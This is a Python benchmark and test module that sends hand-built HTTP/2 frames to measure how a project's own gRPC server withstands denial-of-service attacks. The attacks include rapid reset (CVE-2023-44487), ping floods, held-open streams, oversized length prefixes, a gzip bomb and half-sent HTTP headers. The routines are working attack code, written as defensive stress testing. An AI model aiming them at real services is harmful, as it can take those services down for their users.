"""Raw HTTP/2 attacks on a gRPC port, written frame by frame with the ``h2`` package over a plain
socket: what grpcio's own client never sends (streams reset as soon as opened, streams that never
send a message, a length prefix far above the limit, a compressed message that inflates 1000×).

Used by tests/test_h2_attacks.py (each attack scaled down, against a real server) and by hand
(``python -m bench.h2attack PORT ATTACK``) to measure a server. Every loop is bounded in time or
count; nothing here is imported by the server.
"""

from __future__ import annotations

import argparse
import collections
import json
import os
import platform
import select
import socket
import struct
import sys
import time
import zlib
from dataclasses import dataclass, field

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings

CLASSIFY = "/cnnserve.v1.Classifier/Classify"


def grpc_headers(path: str = CLASSIFY, encoding: str | None = None) -> list[tuple[str, str]]:
    headers = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", "127.0.0.1"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]
    if encoding:
        headers.append(("grpc-encoding", encoding))
    return headers


@dataclass
class Outcome:
    """What the server did to one attacking connection."""

    streams_opened: int = 0
    seconds: float = 0.0
    goaway: bool = False
    goaway_error: int | None = None
    goaway_data: str = ""  # the GOAWAY's debug data (grpc-core: "too_many_pings")
    closed: bool = False  # the server closed the TCP connection
    resets: int = 0  # RST_STREAM frames from the server
    refused: int = 0  # ... of which REFUSED_STREAM
    statuses: dict[str, int] = field(default_factory=dict)  # grpc-status -> count
    messages: list[str] = field(default_factory=list)  # first few grpc-message values
    max_concurrent_streams: int | None = None  # the server's SETTINGS
    data_sent: int = 0

    def as_dict(self) -> dict:
        return self.__dict__ | {"messages": self.messages[:3]}


class Attacker:
    """One client HTTP/2 connection on a plain socket (prior knowledge, as gRPC does)."""

    def __init__(
        self,
        port: int,
        host: str = "127.0.0.1",
        timeout: float = 10,
        source: str | None = None,
        connect_timeout: float = 10,
    ) -> None:
        # ``source``: another loopback address (127.0.0.2) for the attacker, so that what the server
        # does to the attacker's address does not hit legitimate callers from 127.0.0.1.
        self.sock = socket.create_connection(
            (host, port), timeout=connect_timeout, source_address=(source, 0) if source else None
        )
        self.sock.settimeout(timeout)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.conn = h2.connection.H2Connection(
            h2.config.H2Configuration(client_side=True, header_encoding="utf-8", validate_inbound_headers=False)
        )
        self.conn.initiate_connection()
        self.outcome = Outcome()
        self.flush()
        self.pump(wait=1.0, until=lambda: self.outcome.max_concurrent_streams is not None or self.settled)

    @property
    def settled(self) -> bool:
        return self.outcome.closed or self.outcome.goaway

    def flush(self) -> None:
        data = self.conn.data_to_send()
        if data and not self.outcome.closed:
            try:
                self.sock.sendall(data)
            except OSError:
                self.outcome.closed = True

    def pump(self, wait: float = 0.0, until=None) -> None:
        """Read and handle what the server sent, for up to ``wait`` seconds or until ``until()``."""
        deadline = time.monotonic() + wait
        while not self.outcome.closed and not (until is not None and until()):
            remaining = max(0.0, deadline - time.monotonic())
            ready, _, _ = select.select([self.sock], [], [], remaining)
            if ready:
                try:
                    data = self.sock.recv(1 << 20)
                except OSError:
                    data = b""
                if not data:
                    self.outcome.closed = True
                    break
                try:
                    events = self.conn.receive_data(data)
                except h2.exceptions.ProtocolError:
                    self.outcome.closed = True
                    break
                for event in events:
                    self._handle(event)
                self.flush()
            if (until is not None and until()) or time.monotonic() >= deadline:
                break

    def _handle(self, event) -> None:
        o = self.outcome
        if isinstance(event, h2.events.RemoteSettingsChanged):
            changed = event.changed_settings.get(h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS)
            if changed is not None:
                o.max_concurrent_streams = changed.new_value
        elif isinstance(event, h2.events.ConnectionTerminated):
            o.goaway, o.goaway_error = True, int(event.error_code)
            o.goaway_data = (event.additional_data or b"").decode("latin-1")
        elif isinstance(event, h2.events.StreamReset):
            o.resets += 1
            o.refused += int(event.error_code) == 7
        elif isinstance(event, (h2.events.ResponseReceived, h2.events.TrailersReceived)):
            headers = dict(event.headers)
            if "grpc-status" in headers:
                o.statuses[headers["grpc-status"]] = o.statuses.get(headers["grpc-status"], 0) + 1
                if len(o.messages) < 8:
                    o.messages.append(headers.get("grpc-message", ""))
        elif isinstance(event, h2.events.DataReceived):
            self.conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)

    def open_stream(self, end_stream: bool = False, encoding: str | None = None) -> int | None:
        """HEADERS for a new Classify call; None once the connection is gone or refuses streams."""
        if self.settled:
            return None
        stream_id = self.conn.get_next_available_stream_id()
        try:
            self.conn.send_headers(stream_id, grpc_headers(encoding=encoding), end_stream=end_stream)
        except (h2.exceptions.ProtocolError, h2.exceptions.StreamIDTooLowError):
            return None
        self.outcome.streams_opened += 1
        return stream_id

    def close(self) -> None:
        try:
            self.conn.close_connection()
            self.flush()
        finally:
            self.sock.close()


def _unbounded(attacker: Attacker) -> None:
    # The attacker ignores the server's MAX_CONCURRENT_STREAMS (as a hostile client would): h2
    # enforces the peer's limit on our side, so lift it (h2 keeps each setting in a deque whose
    # head is the value in force); grpc-core must refuse on its own.
    code = h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS
    attacker.conn.remote_settings._settings[code] = collections.deque([2**31 - 1])


def rapid_reset(
    port: int, seconds: float, batch: int = 100, source: str | None = None, connect_timeout: float = 10
) -> Outcome:
    """HEADERS then RST_STREAM(CANCEL) on new stream ids, ``batch`` pairs per write, for ``seconds``
    or until the server sends GOAWAY / closes (CVE-2023-44487)."""
    a = Attacker(port, source=source, connect_timeout=connect_timeout)
    _unbounded(a)
    started = time.monotonic()
    while time.monotonic() - started < seconds and not a.settled:
        for _ in range(batch):
            stream_id = a.open_stream()
            if stream_id is None:
                break
            a.conn.reset_stream(stream_id, error_code=8)  # CANCEL
        a.flush()
        a.pump()
    a.outcome.seconds = time.monotonic() - started
    a.pump(wait=0.5, until=lambda: a.settled)
    a.close()
    return a.outcome


def pings(port: int, interval: float, count: int, source: str | None = None) -> Outcome:
    """``count`` PING frames ``interval`` seconds apart on a connection with no call: a client's
    keepalive on an idle channel, or, at a short interval, a ping flood. Ends early on GOAWAY."""
    a = Attacker(port, source=source)
    started = time.monotonic()
    for i in range(count):
        if a.settled:
            break
        a.conn.ping(struct.pack(">Q", i))
        a.flush()
        a.pump(wait=interval, until=lambda: a.settled)
    a.outcome.seconds = time.monotonic() - started
    a.pump(wait=0.3, until=lambda: a.settled)
    a.close()
    return a.outcome


@dataclass
class Reconnects:
    """What a reconnecting attacker got: connections made, refused (or timed out) and streams sent."""

    connections: int = 0
    refused: int = 0
    streams_opened: int = 0
    seconds: float = 0.0

    def as_dict(self) -> dict:
        return dict(self.__dict__)


def rapid_reset_reconnecting(port: int, seconds: float, source: str | None = None) -> Reconnects:
    """Rapid reset from a client that opens a new connection whenever the server closes one, for
    ``seconds``; a connection attempt that fails or times out (1 s) is retried at once."""
    out = Reconnects()
    started = time.monotonic()
    while (left := seconds - (time.monotonic() - started)) > 0:
        try:
            one = rapid_reset(port, seconds=left, source=source, connect_timeout=min(left, 1.0))
        except OSError:  # refused, reset or timed out while connecting (or reading SETTINGS)
            out.refused += 1
            continue
        out.connections += 1
        out.streams_opened += one.streams_opened
    out.seconds = time.monotonic() - started
    return out


def silent_streams(port: int, streams: int, hold: float, source: str | None = None) -> Outcome:
    """``streams`` Classify calls opened with HEADERS only (no message, no END_STREAM), held for
    ``hold`` seconds while the server's answers (resets, statuses, GOAWAY) are counted."""
    a = Attacker(port, source=source)
    _unbounded(a)
    started = time.monotonic()
    for _ in range(streams):
        if a.open_stream() is None:
            break
    a.flush()
    a.pump(wait=hold, until=lambda: a.settled)
    a.outcome.seconds = time.monotonic() - started
    a.close()
    return a.outcome


def large_prefix(port: int, declared: int, send: int, seconds: float = 5, source: str | None = None) -> Outcome:
    """One call whose 5-byte gRPC prefix declares ``declared`` bytes, then up to ``send`` bytes of
    it within flow control, the stream held open until the server ends it or ``seconds`` pass."""
    a = Attacker(port, source=source)
    stream_id = a.open_stream()
    assert stream_id is not None
    a.conn.send_data(stream_id, struct.pack(">BI", 0, min(declared, 2**32 - 1)))
    a.flush()
    chunk = b"\0" * 16384
    started = time.monotonic()
    ended = lambda: a.settled or bool(a.outcome.statuses) or a.outcome.resets > 0  # noqa: E731
    while a.outcome.data_sent < send and time.monotonic() - started < seconds and not ended():
        try:
            window = min(a.conn.local_flow_control_window(stream_id), a.conn.max_outbound_frame_size)
        except (h2.exceptions.StreamClosedError, KeyError):
            break
        if window <= 0:
            a.pump(wait=0.05)
            continue
        n = min(window, len(chunk), send - a.outcome.data_sent)
        try:
            a.conn.send_data(stream_id, chunk[:n])
        except h2.exceptions.ProtocolError:
            break
        a.outcome.data_sent += n
        a.flush()
        a.pump()
    # Then hold the stream open (a client that will never finish its message) until the server
    # ends it or ``seconds`` have passed.
    a.pump(wait=max(0.0, seconds - (time.monotonic() - started)), until=ended)
    a.outcome.seconds = time.monotonic() - started
    a.close()
    return a.outcome


def half_sent_headers(port: int, connections: int, seconds: float, source: str | None = None) -> dict[str, int]:
    """``connections`` HTTP/1.1 connections to an HTTP port, each sending the start of a request's
    headers and never the rest, held for ``seconds``: how many the server answered or closed."""
    socks, failed = [], 0
    for _ in range(connections):
        try:
            sock = socket.create_connection(
                ("127.0.0.1", port), timeout=5, source_address=(source, 0) if source else None
            )
            sock.sendall(b"POST /predict HTTP/1.1\r\nHost: x\r\n")
            socks.append(sock)
        except OSError:
            failed += 1
    time.sleep(seconds)
    answered = 0
    for sock in socks:
        sock.setblocking(False)
        try:
            sock.recv(1)  # an answer, or the end of the stream
            answered += 1
        except BlockingIOError:
            pass  # still held
        except OSError:
            answered += 1
        sock.close()
    return {"connections": len(socks), "failed": failed, "answered_or_closed": answered}


def gzip_bomb(inflated: int) -> bytes:
    """A gzip stream of ``inflated`` zero bytes (about inflated / 1000 on the wire)."""
    z = zlib.compressobj(9, zlib.DEFLATED, 31)
    block = b"\0" * (1 << 20)
    parts = []
    for _ in range(inflated // len(block)):
        parts.append(z.compress(block))
    parts.append(z.compress(b"\0" * (inflated % len(block))))
    parts.append(z.flush())
    return b"".join(parts)


def compressed_message(
    port: int, payload: bytes, encoding: str = "gzip", seconds: float = 20, source: str | None = None
) -> Outcome:
    """One call with ``grpc-encoding: encoding`` whose message (compressed flag set) is ``payload``."""
    a = Attacker(port, source=source)
    stream_id = a.open_stream(encoding=encoding)
    assert stream_id is not None
    message = struct.pack(">BI", 1, len(payload)) + payload
    started = time.monotonic()
    ended = lambda: a.settled or bool(a.outcome.statuses) or a.outcome.resets > 0  # noqa: E731
    offset = 0
    while offset < len(message) and time.monotonic() - started < seconds and not ended():
        window = min(a.conn.local_flow_control_window(stream_id), a.conn.max_outbound_frame_size)
        if window <= 0:
            a.pump(wait=0.05)
            continue
        piece = message[offset : offset + window]
        offset += len(piece)
        a.conn.send_data(stream_id, piece, end_stream=offset >= len(message))
        a.outcome.data_sent += len(piece)
        a.flush()
        a.pump()
    a.pump(wait=max(0.0, seconds - (time.monotonic() - started)), until=ended)
    a.outcome.seconds = time.monotonic() - started
    a.close()
    return a.outcome


def legit_callers(grpc_target: str, http_url: str, seconds: float) -> dict[str, list[float]]:
    """A legitimate Classify caller and a /predict caller, one call at a time each with a 20 ms
    pause, for ``seconds``: latencies in seconds per protocol (a failure counts as 10 s)."""
    import threading

    import grpc
    import httpx

    from service.grpc_api.gen.cnnserve.v1 import classifier_pb2 as pb
    from service.grpc_api.gen.cnnserve.v1 import classifier_pb2_grpc as pb_grpc

    image = httpx.get(http_url.rsplit("/", 1)[0] + "/samples/0.png").content  # a CIFAR-10 test image
    out: dict[str, list[float]] = {"grpc": [], "http": []}
    until = time.monotonic() + seconds

    def classify() -> None:
        with grpc.insecure_channel(grpc_target) as channel:
            stub = pb_grpc.ClassifierStub(channel)
            request = pb.ClassifyRequest(images=[pb.Image(encoded=image)], top_k=1)
            while time.monotonic() < until:
                started = time.perf_counter()
                try:
                    stub.Classify(request, timeout=10)
                    out["grpc"].append(time.perf_counter() - started)
                except grpc.RpcError:
                    out["grpc"].append(10.0)
                time.sleep(0.02)

    def predict() -> None:
        with httpx.Client(timeout=10) as http:
            while time.monotonic() < until:
                started = time.perf_counter()
                try:
                    ok = http.post(http_url, content=image, headers={"Content-Type": "image/png"}).status_code == 200
                except httpx.HTTPError:
                    ok = False
                out["http"].append(time.perf_counter() - started if ok else 10.0)
                time.sleep(0.02)

    threads = [threading.Thread(target=classify), threading.Thread(target=predict)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    return out


#: Each attack class of issue 17 at its full size: (attackers, the attack command's arguments).
CLASSES: dict[str, tuple[int, list[str]]] = {
    "rapid-reset": (1, ["rapid-reset"]),
    "rapid-reset-reconnecting": (3, ["rapid-reset-reconnecting"]),
    "silent-streams": (4, ["silent-streams", "--streams", "600"]),
    "large-prefix": (1, ["large-prefix", "--bytes", str(600 << 20)]),
    "gzip": (1, ["gzip", "--bytes", str(1 << 30)]),
    "http-slots": (1, ["http-slots", "--streams", "1100"]),  # on the HTTP port
}


def _percentiles(latencies: list[float]) -> dict[str, float]:
    ordered = sorted(latencies) or [float("nan")]
    pick = lambda q: round(ordered[min(len(ordered) - 1, int(q * len(ordered)))] * 1000, 1)  # noqa: E731
    return {"n": len(latencies), "p50_ms": pick(0.5), "p99_ms": pick(0.99)}


def measure(
    classes: list[str],
    seconds: float,
    baseline_s: float,
    settle_s: float,
    server_args: list[str],
    tree: str | None = None,
) -> list[dict]:
    """Each class against one server (one process: the attacked one is the one measured), from
    its own loopback address (127.0.0.N, so a penalty on one attacker does not carry to the next):
    legitimate callers' p50/p99 alone and during the attack, the server's peak RSS during it
    (VmHWM, reset before) and its RSS ``settle_s`` after."""
    import subprocess
    import tempfile
    from concurrent.futures import ThreadPoolExecutor
    from pathlib import Path

    from bench.serverproc import ROOT, ServerProcess

    # ``tree``: another checkout's server (main, for a before/after), attacked by this one's code.
    server = ServerProcess(
        *("--workers", "1", "--executor", "worker", "--drain-seconds", "0", *server_args),
        cwd=tree or ROOT,
        env={"PYTHONPATH": str(tree or ROOT)},
    )
    results = []
    scratch = tempfile.TemporaryDirectory(prefix="h2attack-")
    try:
        pool = ThreadPoolExecutor(2)
        for n, name in enumerate(classes, start=2):
            attackers, command = CLASSES[name]
            if name == "gzip":  # made here, not by the attacker during the attack: 1 GiB at level 9 is 15 s of CPU
                payload = Path(scratch.name) / "bomb.gz"
                payload.write_bytes(gzip_bomb(int(command[command.index("--bytes") + 1])))
                command = [*command, "--payload", str(payload)]
            call = lambda s: legit_callers(server.grpc_target, f"{server.http}/predict", s)  # noqa: E731
            baseline = call(baseline_s)
            rss_before = server.memory()["VmRSS"]
            Path(f"/proc/{server.proc.pid}/clear_refs").write_text("5")  # VmHWM := VmRSS
            during = pool.submit(call, seconds + 2)
            time.sleep(1)
            port = server.http_port if name == "http-slots" else server.grpc_port
            cmd = [sys.executable, "-m", "bench.h2attack", "attack", str(port), *command]
            cmd += ["--seconds", str(seconds), "--source", f"127.0.0.{n}"]
            procs = [subprocess.Popen(cmd, stdout=subprocess.PIPE, text=True) for _ in range(attackers)]
            outcomes = [json.loads(p.communicate(timeout=seconds + 120)[0] or "null") for p in procs]
            legit = during.result()
            peak = server.memory()["VmHWM"]
            ended = time.monotonic()
            back_after = None
            while time.monotonic() - ended < settle_s:
                if back_after is None and server.memory()["VmRSS"] < rss_before + 150:
                    back_after = round(time.monotonic() - ended, 1)
                time.sleep(0.5)
            row = {
                "class": name,
                "attackers": attackers,
                "grpc_baseline": _percentiles(baseline["grpc"]),
                "grpc_during": _percentiles(legit["grpc"]),
                "http_baseline": _percentiles(baseline["http"]),
                "http_during": _percentiles(legit["http"]),
                "rss_before_mb": round(rss_before),
                "rss_peak_mb": round(peak),
                f"rss_after_{settle_s:g}s_mb": round(server.memory()["VmRSS"]),
                "back_within_150mb_after_s": back_after,
                "alive": server.proc.poll() is None,
                "load_average_1m": round(os.getloadavg()[0], 1),  # the machine's business, this run's own included
                "attack": outcomes[0],
            }
            results.append(row)
            print(json.dumps(row), flush=True)
    finally:
        server.stop()
        scratch.cleanup()
    return results


def main() -> None:
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    sub = p.add_subparsers(dest="command", required=True)
    a = sub.add_parser("attack", help="one attack on a running server's gRPC port; prints its outcome")
    a.add_argument("port", type=int)
    a.add_argument(
        "attack",
        choices=[
            "rapid-reset",
            "rapid-reset-reconnecting",
            "silent-streams",
            "large-prefix",
            "gzip",
            "http-slots",
            "pings",
        ],
    )
    a.add_argument("--seconds", type=float, default=5)
    a.add_argument("--streams", type=int, default=600, help="streams (silent-streams) / connections (http-slots)")
    a.add_argument("--bytes", type=int, default=64 << 20, help="data sent (large-prefix) / inflated size (gzip)")
    a.add_argument("--source", help="local address to connect from (127.0.0.2)")
    a.add_argument("--interval", type=float, default=0.05, help="pings: seconds between PING frames")
    a.add_argument("--payload", help="gzip: the compressed message, made beforehand (else made from --bytes)")
    m = sub.add_parser("measure", help="start a server; each class's legit p50/p99 and RSS (JSON lines)")
    m.add_argument("--classes", default=",".join(CLASSES))
    m.add_argument("--seconds", type=float, default=10, help="each attack's length")
    m.add_argument("--baseline-seconds", type=float, default=8)
    m.add_argument("--settle-seconds", type=float, default=30)
    m.add_argument("--tree", help="serve from this checkout instead (before/after: /path/to/main)")
    m.add_argument("--out", help="also write the rows, with the command and machine, to this JSON file")
    m.add_argument("server_args", nargs="*", help="extra serve flags, after --")
    args = p.parse_args()
    if args.command == "measure":
        rows = measure(
            args.classes.split(","),
            args.seconds,
            args.baseline_seconds,
            args.settle_seconds,
            args.server_args,
            args.tree,
        )
        if args.out:
            from pathlib import Path

            cpuinfo = Path("/proc/cpuinfo").read_text().splitlines()
            models = [line.split(":", 1)[1].strip() for line in cpuinfo if line.startswith("model name")]
            machine = {"cpus": os.cpu_count(), "model": models[0] if models else platform.machine()}
            with open(args.out, "w") as f:
                json.dump(
                    {
                        "command": " ".join(["python -m bench.h2attack", *sys.argv[1:]]),
                        "machine": machine,
                        "rows": rows,
                    },
                    f,
                    indent=1,
                )
        return
    out: Outcome | Reconnects
    if args.attack == "http-slots":
        print(json.dumps(half_sent_headers(args.port, args.streams, args.seconds, source=args.source)))
        return
    if args.attack == "rapid-reset":
        out = rapid_reset(args.port, args.seconds, source=args.source)
    elif args.attack == "rapid-reset-reconnecting":
        out = rapid_reset_reconnecting(args.port, args.seconds, source=args.source)
    elif args.attack == "silent-streams":
        out = silent_streams(args.port, args.streams, args.seconds, source=args.source)
    elif args.attack == "pings":
        out = pings(args.port, args.interval, max(1, round(args.seconds / args.interval)), source=args.source)
    elif args.attack == "large-prefix":
        out = large_prefix(args.port, 2**32 - 1, args.bytes, args.seconds, source=args.source)
    else:
        if args.payload:
            with open(args.payload, "rb") as f:
                payload = f.read()
        else:
            payload = gzip_bomb(args.bytes)
        out = compressed_message(args.port, payload, seconds=args.seconds, source=args.source)
    print(json.dumps(out.as_dict()))


if __name__ == "__main__":
    main()
